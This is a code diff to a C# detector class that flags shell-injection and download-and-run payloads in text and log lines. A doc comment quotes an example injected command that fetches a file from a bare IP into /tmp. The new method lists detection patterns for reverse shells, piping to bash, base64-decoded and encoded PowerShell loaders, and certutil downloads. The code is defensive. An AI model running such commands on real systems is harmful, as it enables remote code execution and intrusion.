@@ -5,10 +5,12 @@ internal static class ShellWords
 {
     private const int MostRead = 2_000;
 
-    /// <summary>"…; wget http://192.0.2.1/x": behind a sign of the shell's, from a bare address.</summary>
+    /// <summary>"x;cd /tmp; wget http://192.0.2.1/x": behind a sign of the shell's that ends a value without words, from a bare address. Lines of logs (RFC 5424, GELF) and texts hold such commands too.</summary>
     public static bool LoadsFromAddress(ReadOnlySpan<byte> text)
     {
         text = text[..Math.Min(text.Length, MostRead)];
+        int first = text.IndexOfAny(";|`&"u8);
+        if (first < 0 || text[0] is (byte)'<' or (byte)'{' or (byte)'[' || text[..first].IndexOfAny(" \t\n"u8) >= 0) return false;
         int at = text.IndexOf("wget http://"u8);
         if (at < 0) at = text.IndexOf("curl http://"u8);
         if (at < 2 || at + 20 > text.Length) return false;
@@ -17,6 +19,16 @@ internal static class ShellWords
         var host = text[(at + 12)..];
         int end = host.IndexOfAnyExcept("0123456789."u8);
         return end is >= 7 and <= 15 && host[..end].Count((byte)'.') == 3;
+    }
+
+    /// <summary>What it loads it runs at once, or hides: who fetches figures into a table, or runs a script of his own, does neither.</summary>
+    public static bool LoadAndRun(ReadOnlySpan<byte> text)
+    {
+        text = text[..Math.Min(text.Length, MostRead)];
+        return text.IndexOf("/dev/tcp/"u8) >= 0 || text.IndexOf("bash -i"u8) >= 0 || text.IndexOf("base64 -d"u8) >= 0 || text.IndexOf("bash -c {echo,"u8) >= 0
+            || text.IndexOf("|bash"u8) >= 0 || text.IndexOf("| bash"u8) >= 0 || text.IndexOf("|sh"u8) >= 0 || text.IndexOf("| sh"u8) >= 0 || text.IndexOf("chmod "u8) >= 0 || text.IndexOf("/tmp/"u8) >= 0
+            || PeekText.ContainsIgnoreCase(text, "DOWNLOADSTRING("u8) || PeekText.ContainsIgnoreCase(text, "POWERSHELL -E"u8) && !PeekText.ContainsIgnoreCase(text, "POWERSHELL -EXECUTIONPOLICY"u8)
+            || PeekText.ContainsIgnoreCase(text, " -ENC"u8) || PeekText.ContainsIgnoreCase(text, " HIDDEN "u8) || PeekText.ContainsIgnoreCase(text, "CERTUTIL -URLCACHE"u8);
     }
 
     public static bool Load(ReadOnlySpan<byte> text)
